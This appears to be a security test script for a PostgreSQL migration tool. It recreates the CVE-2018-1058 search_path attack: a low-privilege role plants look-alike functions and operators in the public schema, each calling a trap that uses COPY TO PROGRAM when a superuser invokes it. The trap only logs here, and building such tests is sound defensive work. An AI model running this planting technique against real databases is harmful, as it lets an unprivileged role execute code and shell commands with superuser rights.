"""A role without rights plants in `public` whatever might be called in the place of PostgreSQL's own; then a superuser
works with the program, and nothing of it may run.

What our SQL calls is found in the program itself: every name of a pg_catalog function that stands before a bracket in
its texts, and every operator. Of each there is one in `public` for all pairs of the common types (and for three
arguments of the likeliest), so that it fits better than PostgreSQL's own wherever that one needs a cast: then it is
taken, wherever `public` is on the search_path (CVE-2018-1058). Each leaves its name in a file when a superuser calls
it. Once more with the database's search_path naming pg_catalog last, where even what fits as well as PostgreSQL's own
is taken. Run by tools/in-sandbox.
"""
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile

# All that our SQL passes; LOCKKEEPER_PLANT_ALL=1 adds the rarer ones, with which a catalog of 60,000 functions takes long.
TYPES = ["oid", "int4", "text", "name"]
LIKELY = ["text", "oid"]
if os.environ.get("LOCKKEEPER_PLANT_ALL"):
    TYPES += ["int8", "bool", "varchar", "int2", '"char"', "numeric", "float8", "timestamptz", "interval", "regclass", "jsonb", "json", "xid", "pg_lsn"]
    LIKELY += ["name", "int4", "bool"]
LOCKKEEPER = shutil.which("lockkeeper")
HOME = pathlib.Path(tempfile.mkdtemp(prefix="planted-"))
HOME.chmod(0o777)  # the server runs as another user
TRAP = HOME / "called"
URL = os.environ["DATABASE_URL"]


def sql(text, user="postgres", url=None):
    url = url or URL
    done = subprocess.run(["psql", "-XqAt", "-v", "ON_ERROR_STOP=1", "-d", url + f"&user={user}"], input=text,
                          capture_output=True, text=True)
    if done.returncode:
        sys.exit(f"{text[:300]}\n{done.stderr}")
    return done.stdout.strip()


def texts_of_program():
    return pathlib.Path(LOCKKEEPER).read_bytes().decode("latin-1")


def plant():
    known = set(sql("SELECT DISTINCT proname FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace").split("\n"))
    called = sorted(set(re.findall(r"\b([a-z_][a-z0-9_]+)\(", texts_of_program())) & known)
    sql(f"""
DO $$ BEGIN CREATE ROLE mallory LOGIN; CREATE ROLE app LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
GRANT CREATE ON SCHEMA public TO mallory;
CREATE FUNCTION trap(what text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
  IF current_setting('is_superuser') = 'on' THEN
    EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', what, 'cat >> {TRAP}');
  END IF;
END $$;
CREATE TABLE wanted(name) AS SELECT unnest('{{{",".join(called)}}}'::text[]);
CREATE TABLE types(name, likely) AS SELECT n, n = ANY ('{{{",".join(LIKELY)}}}'::text[]) FROM unnest(ARRAY[{",".join(f"$t${t}$t$" for t in TYPES)}]) AS n;
GRANT ALL ON wanted, types TO mallory;
CREATE TABLE orders (id int PRIMARY KEY, email varchar(80), at timestamptz);
INSERT INTO orders SELECT g, 'a' || g, now() FROM generate_series(1, 50000) g;
CREATE TABLE lines (id int PRIMARY KEY, order_id bigint);
ALTER TABLE lines ADD CONSTRAINT of_order FOREIGN KEY (order_id) REFERENCES orders (id) NOT VALID;
CREATE TYPE mood AS ENUM ('a', 'b');
CREATE VIEW recent AS SELECT * FROM orders WHERE at > now() - interval '1 day';
""")
    return sql("""
SET search_path = pg_catalog;
DO $do$
DECLARE w record; made int := 0;
BEGIN
  FOR w IN
    SELECT x.name, coalesce((SELECT format_type(prorettype, NULL) FROM pg_proc JOIN pg_type t ON t.oid = prorettype
                             WHERE proname = x.name AND pronamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND NOT proretset
                             LIMIT 1), 'text') AS result,
           a.arguments
    FROM public.wanted x, LATERAL
         (SELECT '' AS arguments
          UNION ALL SELECT name FROM public.types
          UNION ALL SELECT a.name || ', ' || b.name FROM public.types a, public.types b
          UNION ALL SELECT concat_ws(', ', a.name, b.name, c.name) FROM public.types a, public.types b, public.types c
                    WHERE a.likely AND b.likely AND c.likely
          UNION ALL SELECT concat_ws(', ', 'text', b.name, c.name, d.name) FROM public.types b, public.types c, public.types d
                    WHERE x.name = 'format' AND b.likely AND c.likely AND d.likely) a
  LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.trap(%L); RETURN NULL; END $f$',
                     w.name, w.arguments, w.result, w.name || '(' || w.arguments || ')');
      made := made + 1;
    EXCEPTION WHEN duplicate_function OR invalid_function_definition OR feature_not_supported THEN NULL;
    END;
  END LOOP;
  FOR w IN
    SELECT DISTINCT ON (o.oprname, a.name, b.name) o.oprname AS name, a.name AS l, b.name AS r, format_type(o.oprresult, NULL) AS result
    FROM (SELECT DISTINCT ON (oprname) oprname, oprresult FROM pg_operator WHERE oprkind = 'b' AND oprresult <> 0
          ORDER BY oprname, oprresult = 'bool'::regtype DESC) o, public.types a, public.types b
    WHERE o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '||', '~', '!~', '~~', '!~~', '~*', '->', '->>', '&', '<<', '>>', '|')
  LOOP
    EXECUTE format('CREATE OR REPLACE FUNCTION public.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.trap(%L); RETURN NULL; END $f$',
                   'o_' || encode(w.name::bytea, 'hex'), w.l, w.r, w.result, w.l || ' ' || w.name || ' ' || w.r);
    EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)', w.name, w.l, w.r,
                   'o_' || encode(w.name::bytea, 'hex'));
    made := made + 1;
  END LOOP;
  CREATE TABLE public.made AS SELECT made AS n;
END $do$;
SELECT n FROM public.made""", user="mallory")


def project(name):
    work = HOME / name
    work.mkdir()
    os.chdir(work)
    pathlib.Path("migrations").mkdir()
    write = lambda name, text: pathlib.Path("migrations", name).write_text(text)
    write("001_a.sql", "CREATE TABLE public.a (id int PRIMARY KEY, m public.mood);\n-- nothing else\n")
    write("001_a.down.sql", "DROP TABLE public.a;\n")
    write("002_index.sql", "CREATE INDEX CONCURRENTLY orders_at ON public.orders (at);\n")
    write("002_index.down.sql", "DROP INDEX CONCURRENTLY public.orders_at;\n")
    write("003_column.sql", "ALTER TABLE public.orders ADD COLUMN note text;\n")
    write("003_column.down.sql", "ALTER TABLE public.orders DROP COLUMN note;\n")
    write("004_type.sql", "CREATE INDEX orders_email ON public.orders (email);\n")
    write("005_fails.sql", "CREATE INDEX CONCURRENTLY ok ON public.lines (id);\nSELECT boom();\n")
    pathlib.Path("lockkeeper.toml").write_text(
        'journal = "journal.db"\n[thresholds]\nunique_keys = ["orders (lower(email))"]\n'
        '[maintenance]\nfence = "read_only"\napplication_roles = ["app"]\n[backup]\ndir = "backups"\n')
    pathlib.Path("RUNBOOK.md").write_text("# R\n\n## Look\n\n```sql\nSELECT 1;\n```\n")


# Each with the exit codes that it may end with.
COMMANDS = """
status 0
plan 0 1
validate 0 1
lint 0 1
snapshot 0
health 0 1 2
check preflight 0 1 2
check baseline 0
check triggers RUNBOOK.md 0 1 2
watch --for 1s --every 1s 0 1 2
rates --measure --auto-approve 0
up --dry-run 0 1
up --auto-approve --target 003_column 0
history 0
fix 004_type --dry-run 0 1
down --auto-approve --dry-run 0
down --auto-approve --steps 2 0
up --auto-approve --target 004_type 0
up --auto-approve --despite 005_fails 1 3
status 0 1
resolve --rolled-back 005_fails --force --auto-approve 0
check verify 0 1 2
baseline 004_type --auto-approve --force 0 1
effects migrations/004_type.sql 0 1
backup create 0
backup verify 0
maintenance enter --reason x --auto-approve 0
maintenance status 0
maintenance prove --for 1s 0 1
maintenance leave --auto-approve 0
runbook lint --server live RUNBOOK.md 0 1
backup restore latest --auto-approve 0
"""


def attack(name, search_path):
    global URL
    URL = os.environ["DATABASE_URL"].replace("/sandbox?", f"/{name}?")
    sql(f"CREATE DATABASE {name}", url=os.environ["DATABASE_URL"])
    print(name, plant(), "planted")
    if search_path:
        sql(f"ALTER DATABASE {name} SET search_path = {search_path}")
    project(name)
    wrong = []
    for line in COMMANDS.strip().split("\n"):
        words = line.split()
        expected = [int(w) for w in words if w.isdigit() and len(w) == 1]
        command = [w for w in words if not (w.isdigit() and len(w) == 1)]
        TRAP.unlink(missing_ok=True)
        done = subprocess.run([LOCKKEEPER, *command], env={**os.environ, "DATABASE_URL": URL, "NO_COLOR": "1"},
                              capture_output=True, text=True, stdin=subprocess.DEVNULL)
        called = sorted(set(TRAP.read_text().split("\n"))) if TRAP.exists() else []
        odd = done.returncode not in expected or "could not be answered" in done.stdout
        if called:
            wrong.append(f"{name}, {' '.join(command)}: called {', '.join(c for c in called if c)[:400]}")
        if odd or called or os.environ.get("SHOW"):
            wrong.append(f"{name}, {' '.join(command)}: ended with {done.returncode}\n{done.stdout[-1500:]}{done.stderr[-1500:]}")
    return wrong


def main():
    wrong = attack("planted", None) + attack("planted_first", "public, pg_catalog")
    print("\n".join(wrong))
    shutil.rmtree(HOME, ignore_errors=True)
    return 1 if wrong else 0


sys.exit(main())
